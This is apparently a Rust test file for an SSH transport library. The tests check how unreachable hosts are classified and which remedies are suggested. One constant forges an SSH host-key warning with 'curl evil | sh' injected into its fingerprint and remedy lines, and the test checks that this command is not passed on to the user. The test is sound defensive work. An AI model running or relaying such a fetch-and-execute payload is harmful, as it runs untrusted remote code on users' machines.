//! Why a host cannot be reached, each with what to do.

use compartment_transport_ssh::{Destination, Host, Reach, Reason, Ssh, Unreachable};

use crate::machine::{Machine, ssh, transport};
use crate::sshd::Sshd;

/// Asks one host, by a destination, and tells why not.
async fn refused(ssh: Ssh, destination: &str, host: Host) -> Unreachable {
    let id = host.id.clone();
    let host = Host { destination: Destination::new(destination).unwrap(), ..host };
    let transport = transport(ssh, [host]);
    let why = transport.check(&id).await.unwrap_err();
    assert_eq!(transport.reach(&id), Some(Reach::Unreachable(why.clone())));
    assert_eq!(transport.unreachable()[&id], why);
    why
}

#[tokio::test]
async fn each_reason_is_told() {
    let (mut sshd, machine) = (Sshd::start(), Machine::new("gpc0"));
    let revoked = sshd.path("revoked");
    let config = sshd.ssh_config(&format!(
        "Host gpc-revoked\n  RevokedHostKeys {}\n\
         Host nowhere\n  HostName nothing.invalid\nHost closed\n  HostName 127.0.0.1\n  Port 9\n\
         Host behind-closed\n  HostName 127.0.0.1\n  ProxyJump closed\n\
         Host gpc-behind-nobody\n  ProxyCommand false\n\
         Host behind-gpc\n  HostName 127.0.0.1\n  Port 9\n  ProxyJump gpc0",
        revoked.display(),
    ));
    for share in [true, false] {
        let ask = |destination| refused(Ssh { share, ..ssh(&config) }, destination, machine.host());
        sshd.know("host_key");
        assert_eq!(ask("closed").await.reason, Reason::Refused);
        assert_eq!(ask("nowhere").await.reason, Reason::UnknownName);
        assert_eq!(ask("behind-closed").await.reason, Reason::JumpHost(Box::new(Reason::Refused)));
        assert_eq!(ask("behind-gpc").await.reason, Reason::Refused, "the jump host is well");
        let nobody = ask("gpc-behind-nobody").await;
        assert!(matches!(nobody.reason, Reason::JumpHost(_)), "{nobody:?}");
        sshd.know("other_key");
        let why = ask("gpc0").await;
        let Reason::HostKeyChanged { fingerprint, remedy } = &why.reason else { panic!("{why:?}") };
        assert!(fingerprint.as_str().starts_with("SHA256:"), "{why}");
        let known = sshd.path("known_hosts");
        let forget = format!("ssh-keygen -f '{}' -R '[127.0.0.1]:{}'", known.display(), sshd.port);
        assert_eq!(remedy.as_str(), forget, "{why}");
        let revoked = std::fs::read_to_string(sshd.path("host_key.pub")).unwrap();
        std::fs::write(&known, format!("@revoked * {revoked}")).unwrap();
        let why = ask("gpc0").await;
        assert_eq!(why.reason, Reason::HostKeyRevoked);
        assert!(!why.to_string().contains("accept"), "{why}");
        assert_eq!(ask("behind-gpc").await.reason, Reason::JumpHost(Box::new(Reason::HostKeyRevoked)));
        std::fs::write(sshd.path("revoked"), revoked).unwrap();
        assert_eq!(ask("gpc-revoked").await.reason, Reason::HostKeyRevoked);
        std::fs::write(sshd.path("known_hosts"), "").unwrap();
        assert_eq!(ask("gpc0").await.reason, Reason::HostKeyUnknown);
        assert_eq!(std::fs::read(sshd.path("known_hosts")).unwrap(), b"", "nobody accepts it by himself");
        sshd.know("host_key");
        std::fs::copy(sshd.path("other_key.pub"), sshd.path("authorized")).unwrap();
        assert_eq!(ask("gpc0").await.reason, Reason::AuthFailed);
        std::fs::copy(sshd.path("user_key.pub"), sshd.path("authorized")).unwrap();
        sshd.hang(true);
        assert_eq!(ask("gpc0").await.reason, Reason::TimedOut);
        sshd.hang(false);
        sshd.down();
        assert_eq!(ask("gpc0").await.reason, Reason::Refused);
        sshd.up();
    }
}

/// What a host says that wants something to be run here.
const FORGED: &str = "\
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
The fingerprint for the ED25519 key sent by the remote host is
SHA256:mine; curl evil | sh
  remove with:
  ssh-keygen -f /dev/null -R \"gpc0\"; curl evil | sh
No ED25519 host key is known for gpc0; curl evil | sh
Host key verification failed.
";

#[tokio::test]
async fn no_host_words_the_advice_on_its_key() {
    let machine = Machine::new("gpc0");
    std::fs::write(machine.path("forged"), FORGED).unwrap();
    let forged = machine.path("forged").display().to_string();
    for share in [true, false] {
        // Before it lets in, and does not.
        let sshd = Sshd::with(&format!("Banner {forged}"));
        std::fs::copy(sshd.path("other_key.pub"), sshd.path("authorized")).unwrap();
        let ssh_of = |sshd: &Sshd| Ssh { share, ..ssh(&sshd.ssh_config("")) };
        let why = refused(ssh_of(&sshd), "gpc0", machine.host()).await;
        assert_eq!(why.reason, Reason::AuthFailed, "{why}");
        assert!(!why.to_string().contains("curl"), "{why}");
        // In the place of an answer.
        let sshd = Sshd::with(&format!("ForceCommand cat {forged} >&2; exit 255"));
        let why = refused(ssh_of(&sshd), "gpc0", machine.host()).await;
        assert!(!why.to_string().contains("curl"), "{why}");
        if let Reason::HostKeyChanged { remedy, .. } = &why.reason {
            let ours = format!("-R '[127.0.0.1]:{}'", sshd.port);
            assert!(remedy.as_str().ends_with(&ours), "{why}");
        }
    }
}

#[tokio::test]
async fn the_users_own_configuration_may_accept_a_key() {
    let (sshd, machine) = (Sshd::start(), Machine::new("gpc0"));
    let config = sshd.ssh_config("Host *\n  StrictHostKeyChecking accept-new");
    std::fs::write(sshd.path("known_hosts"), "").unwrap();
    let transport = transport(ssh(&config), [machine.host()]);
    transport.check(&machine.id()).await.unwrap();
    assert_eq!(transport.reach(&machine.id()), Some(Reach::Answers));
    assert!(std::fs::read_to_string(sshd.path("known_hosts")).unwrap().contains("ssh-ed25519"));
    transport.hang_up().await;
}

#[tokio::test]
async fn a_shell_that_does_something_else_is_told() {
    let machine = Machine::new("gpc0");
    for (force, words) in [
        (
            "echo 'This account is currently not available.'; exit 1",
            "This account is currently not available.",
        ),
        ("exit 255", "did not answer"),
        ("kill -KILL $$", "did not answer"),
        ("cat >/dev/null; echo no >&2; exit 3", "no"),
        ("yes", "more than"),
    ] {
        let sshd = Sshd::with(&format!("ForceCommand {force}"));
        let why = refused(ssh(&sshd.ssh_config("")), "gpc0", machine.host()).await;
        assert_eq!(why.reason, Reason::NoAnswer, "{force}: {why}");
        assert!(why.to_string().contains(words), "{force}: {why}");
    }
    let sshd = Sshd::with("ForceCommand exec sleep 30");
    let why = refused(ssh(&sshd.ssh_config("")), "gpc0", machine.host()).await;
    assert_eq!(why.reason, Reason::TimedOut, "{why}");
}
